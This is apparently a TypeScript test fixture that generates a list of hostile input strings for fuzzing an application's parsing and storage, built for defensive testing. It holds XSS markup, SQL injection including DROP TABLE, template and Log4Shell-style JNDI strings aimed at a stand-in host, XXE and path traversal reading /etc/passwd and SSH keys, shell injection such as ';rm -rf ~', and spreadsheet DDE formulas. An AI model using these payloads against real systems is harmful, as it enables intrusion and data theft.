/**
 * Strings that break careless programs. Every one that could become an element carries `data-hit`, so that a page that parsed one
 * shows it; every one that could run calls `hit`, and every address in them is at stranger.example, which no page may ask.
 */

const payloads = ["hit(1)", "alert(1)", "top.hit(2)", "fetch('https://stranger.example/x')"];
const at = (list: readonly string[], index: number): string => list[index % list.length] ?? "";

const elements = "img svg body iframe video audio input details marquee object embed math style link meta base form button select textarea a x".split(" ");
const events = "onerror onload onfocus ontoggle onmouseover onanimationstart onpointerenter onbegin".split(" ");
const markup = elements.flatMap((element, row) =>
  events.map((event, column) => `<${element} data-hit src=x href=x autofocus tabindex=1 ${event}=${at(payloads, row + column)}>`),
);

const breakouts = [
  '"',
  "'",
  '">',
  "'>",
  "-->",
  "]]>",
  "</script>",
  "</textarea>",
  "</title>",
  "</style>",
  "`",
  "*/",
  '\\";',
  "</select>",
  "</noscript>",
  "%>",
  "?>",
];
const scripts = [
  "<script data-hit>hit(1)</script>",
  "<svg data-hit/onload=hit(1)>",
  "<img data-hit src=https://stranger.example/pixel.png>",
  " autofocus onfocus=hit(1) x=",
];
const escapes = breakouts.flatMap((breakout) => scripts.map((script) => breakout + script));

const addresses = `javascript:hit(1) JaVaScRiPt:hit(1) java\tscript:hit(1) javascript&colon;hit(1) vbscript:hit(1) data:text/html,<script>hit(1)</script>
data:text/html;base64,PHNjcmlwdD5oaXQoMSk8L3NjcmlwdD4= //stranger.example/x https://stranger.example/pixel.png \\\\stranger.example\\share
file:///etc/passwd blob:https://stranger.example/1 https://user:word@stranger.example/ http://[::1]/ mailto:a@example.com?bcc=b@stranger.example
tel:+420600000000 [click](javascript:hit(1)) ![x](https://stranger.example/x.png) [x]:javascript:hit(1) <https://stranger.example>
@import'https://stranger.example/x.css'; url(https://stranger.example/x) x;background:url(https://stranger.example/x) expression(hit(1))`.split(/\n| (?=\S)/);

const encoded = `&lt;script&gt;hit(1)&lt;/script&gt; &#60;img&#32;src=x&#32;onerror=hit(1)&#62; &#x3c;svg/onload=hit(1)&#x3e; %3Cscript%3Ehit(1)%3C/script%3E
%253Cscript%253Ehit(1) \\u003cimg\\u0020src=x\\u0020onerror=hit(1)\\u003e \\x3csvg/onload=hit(1)\\x3e +ADw-script+AD4-hit(1)+ADw-/script+AD4-
¼script¾hit(1)¼/script¾ ＜script＞hit(1)＜/script＞ &amp;amp;lt; &nbsp; &#0; &notanentity; &# &#x110000; %00 %0a%0d %u003c \\0 \\n \\r\\n \\t`.split(/\n| /);

const sql =
  `' OR '1'='1|' OR 1=1--|'; DROP TABLE documents;--|" OR ""="|1; SELECT pg_sleep(10)|' UNION SELECT null,null--|'||pg_sleep(5)||'|admin'--|') OR ('a'='a
\\'; --|$$;SELECT 1;$$|E'\\\\x27'|%' AND 1=0 --|_%|%%%|[a-z]%|' || current_setting('app.tenant') || '|'::int|1e309|0x27|CHAR(39)|/**/OR/**/1=1|;vacuum|{"$gt":""}|{"$where":"sleep(1)"}
'; COPY users TO '/tmp/x';--|' AND (SELECT 1 FROM users)=1--|row_to_json(users)|U&'\\0027'|tenant_id <> tenant_id`.split(/\n|\|(?!\|)/);

const templates =
  `{{7*7}}|\${7*7}|<%= 7*7 %>|#{7*7}|{{constructor.constructor('hit(1)')()}}|{{count}}|{{name}}|{{- name}}|$t(action.delete)|$t(error.internal, {"x": 1})|{{$t(action.save)}}|@{7*7}
[[\${7*7}]]|{%raw%}|{# x #}|*{7*7}|~{x}|\${jndi:ldap://stranger.example/a}|\${env:HOME}|%{(#x='hit')}|{{'a'.toUpperCase()}}|<#assign x=1>|#set($x=1)|\${{7*7}}|{{=it.x}}|<%- x %>|{{>partial}}|{{{html}}}
<Trans>x</Trans>|<0>x</0>|<1/>|{0}|{1,number}|{count, plural, one {# doc}}`.split(/\n|\|/);

const formats = `%s|%n%n%n%n|%d%x%p|%s%s%s%s%s%s|%@|%1$s|%*.*s|%c%o%O|%.1024d|{:?}|{}|{!r}|~a|$1|$&|$\`|$'|$$|\\1|&1|\\g<0>|%(x)s`.split("|");
const formulas =
  `=1+1|=cmd|'/C calc'!A0|+1+1|-1+1|@SUM(1)|\t=1+1|\r=1+1|=HYPERLINK("https://stranger.example","x")|=IMPORTXML("https://stranger.example","//a")|=WEBSERVICE("https://stranger.example")
=DDE("cmd";"/C calc";"x")|;=1+1|"=1+1|,=1+1|＝1+1|=1+1";"x|%0A=1+1|=A1:Z99|{=1}|=#REF!|=\u0000|'=1|+420600000000|-|=|@|+`.split(/\n|\|(?!')/);
const paths =
  `../../../../etc/passwd|..\\..\\windows\\win.ini|....//....//etc/passwd|..%2f..%2fetc%2fpasswd|..%c0%af..%c0%afetc|/etc/passwd|C:\\boot.ini|\\\\?\\C:\\x|~/.ssh/id_rsa|file.pdf/..|.|..|...|.htaccess|.env
CON|NUL.txt|aux|COM1.pdf|faktura.pdf.exe|faktura.pdf%00.exe|faktura.pdf\u0000.exe|faktura .pdf. |faktura:stream.pdf|a/b|a\\b|*?<>|"|a\u202Efdp.exe|-rf|--help|-|;rm -rf ~|faktura.svg|faktura.html|x.phtml`.split(
    /\n|\|(?!")/,
  );
const shells =
  `$(id)|\`id\`|; id|& id|\\| id|\\|\\| id|&& id|\nid|$IFS$9id|{id,}|() { :;}; echo hit|$(</etc/passwd)|%COMSPEC%|!id!|^id|'; id #|"; id #|>(id)|<(id)|$((1))|~root|*|?|[!a]|#|\\`.split(
    /\|(?!\|)/,
  );

const xml =
  `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>|&e;|<![CDATA[<b>]]>|]]>]]>|<?xml version="1.0"?>|<?php hit(); ?>|<xsl:value-of select="1"/>|<x xmlns:xi="http://www.w3.org/2001/XInclude"/>|<!-- -- -->|<a b="c>
//*|' or ''='|*)(uid=*))(\\|(uid=*|)(cn=*|*()\\|&'|count(/child::node())|<b>tučně|<plaintext>|<noscript><p title="</noscript><img data-hit src=x onerror=hit(1)>">|<math><mtext><table><mglyph><style><img data-hit src=x onerror=hit(1)>
<form id=hit><input name=attributes>|<a id=hit name=cookie>|<template><script data-hit>hit(1)</script></template>|<svg><use data-hit href="https://stranger.example/x.svg#x">|<svg><animate data-hit onbegin=hit(1) attributeName=x>`.split(
    /\n|\|/,
  );

const lines = [
  "a\r\nb",
  "a\nb",
  "a\rb",
  "\r\nSet-Cookie: hit=1",
  "a\r\nBcc: b@stranger.example",
  "a\u2028b",
  "a\u2029b",
  "a\u0085b",
  "a\vb\fc",
  "\n\n\n\n\n\n\n\n\n\n",
  " a ",
  "\ta\t",
  "a\u00A0b",
  "\u3000a\u3000",
];

const letters = [
  ..."ÁÉÍÓÚÝŽŠČŘĎŤŇ Příliš žluťoučký kůň úpěl ďábelské ódy|Straße|ﬁnance ﬂow|İstanbul ıspanak|ΣΊΣΥΦΟΣ σς|Ёлка|日本語の請求書|請求書|인보이스|ใบแจ้งหนี้|חשבונית|فاتورة|ฟฟฟฟ|🧾|👩‍👩‍👧‍👦|🏳️‍🌈|🇨🇿🇸🇰|👍🏿|1️⃣|(╯°□°)╯︵ ┻━┻|ＡＢＣ１２３|𝓕𝓪𝓴𝓽𝓾𝓻𝓪|ⒻⒶⓀ|раураl.com|ǅ|ŉ|ﷺ|﷽|㎏㎡|½¼¾|①②③|٣٤٥|１２３|−1|–1|1 000,00|¹²³".split(
    "|",
  ),
  "\u0041\u030A",
  "\u00C5",
  "\u212B",
  "e\u0301",
  "\u00E9",
  "o\u0302\u0323",
  "\u1ED9",
  "Z\u030C\u0327\u0331\u0323\u0337\u0489".repeat(20),
  "a\u0300".repeat(200),
  "\u202Eabc",
  "\u202Dabc\u202C",
  "\u2066abc\u2069",
  "\u2067abc",
  "\u200Fabc\u200E",
  "a\u200Bb\u200Bc",
  "a\u200Cb",
  "a\u200Db",
  "\u2060a",
  "\uFEFFa",
  "a\u00ADb",
  "\u180E",
  "\u3164",
  "\u2800",
  "\u115F",
  "\uFFFD",
  "\uFFFE",
  "\uFFFF",
  "\u{10FFFF}",
  "\u{1FFFE}",
  "\uE000",
  "\u{E0041}\u{E007F}",
  "\u0378",
  "\u{1F600}".repeat(300),
  "\u{20000}",
  ...Array.from({ length: 31 }, (_, index) => `a${String.fromCodePoint(index + 1)}b`),
  "\u007F",
  "\u0080",
  "\u009F",
  "\u001B[31mred\u001B[0m",
  "\u001B]0;title\u0007",
  "\b\b\b\b",
];

const words =
  `null undefined NaN Infinity -Infinity true false none nil 0 -0 00 1e309 1E-400 0x1F 0b1 1_000 0.1+0.2 .5 5. 1,5 -1 +1 9007199254740993 99999999999999999999999 2147483648 -2147483649 __proto__
constructor prototype toString valueOf hasOwnProperty __defineGetter__ __lookupSetter__ then toJSON length name [] {} [object Object] function(){} () => 1 2026-02-30 0000-00-00 9999-99-99 32.13.2026 12:60 P1Y
{"a":1} ["a"] "text" {"__proto__":{"hit":1}} {"toString":"x"} \\" \\\\ \\u0000 (a+)+$ (a|aa)+$ ^(([a-z])+.)+[A-Z]$ .* [ ( * \\ (?=x) \\p{L} true,false`.split(
    /\s+/,
  );

const huge = [
  "x".repeat(255),
  "W".repeat(90),
  "x".repeat(1_000),
  "x".repeat(4_000),
  "ž".repeat(2_000),
  "a ".repeat(1_500),
  "a\u00A0".repeat(500),
  "(".repeat(500),
  "<b>".repeat(300),
  "[".repeat(1_000),
  "{{".repeat(400),
  "0".repeat(1_000),
  "a\n".repeat(300),
  "\u202E".repeat(100),
  "-".repeat(500),
  "_".repeat(500),
  "a/".repeat(500),
  "%".repeat(300),
];

/** Texts that no database holds: the server has to refuse or replace them. */
export const impossibleStrings: readonly string[] = ["\u0000", "a\u0000b", "faktura.pdf\u0000.exe", "\uD800", "a\uDC00b", "\uD83Dx"];

/** At least 500 different strings. Every 8th or so of them is of another kind, so that any part of the list has all kinds. */
export const hostileStrings: readonly string[] = mixed([
  markup,
  escapes,
  addresses,
  encoded,
  sql,
  templates,
  formats,
  formulas,
  paths,
  shells,
  xml,
  lines,
  letters,
  words,
  huge,
]).filter((text) => !text.includes("\u0000") && text.isWellFormed() && text.trim() !== "");

/** Takes from the lists in turn, each in proportion to its length; every string once. */
function mixed(lists: readonly (readonly string[])[]): string[] {
  const placed = lists.flatMap((list) => list.map((text, index) => ({ text, place: (index + 0.5) / list.length })));
  return [...new Set(placed.sort((one, other) => one.place - other.place).map(({ text }) => text))];
}
